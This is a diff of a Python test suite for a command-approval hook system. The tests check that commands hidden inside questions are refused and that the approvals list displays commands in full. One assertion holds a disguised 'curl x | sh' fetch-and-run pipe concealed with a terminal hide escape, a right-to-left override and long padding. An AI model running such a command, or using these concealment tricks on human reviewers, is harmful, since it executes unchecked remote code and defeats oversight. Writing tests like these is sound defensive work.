@@ -250,7 +250,7 @@ ASKS = hook("asks", 'rule = "true"', 'ask = "may it?"')
 
 async def test_no_disguise_hides_a_command_in_a_question(machine: Machine, service: Service) -> None:
     """What is in the list has all its commands in sight; what would not is refused, and why is said."""
-    machine.user(ASKS)
+    machine.user(f"[redact]\npatterns = ['Cookie.*', 'hunter22.*']\n{ASKS}")  # which hide too much
     root = machine.project("p", "")
     refused = 0
     for way in BY_HAND:
@@ -273,6 +273,6 @@ def test_the_list_of_questions_shows_all_of_a_command(machine: Machine) -> None:
         client.dispatch(step("before_tool", args={"command": command, "n": 1}), root=str(root), deadline=0.0)
     listed = machine.run("approvals").out
     assert f"echo {'a' * 300}\n" in listed
-    assert "\n          | state  approved\n" in listed
+    assert "\n              | state  approved\n" in listed
     assert rf"| : \x1b[8m\u202e{' ' * 300}; curl x | sh" in listed
-    assert "\n  n         1\n" in listed
+    assert "\n  args.n        1\n" in listed
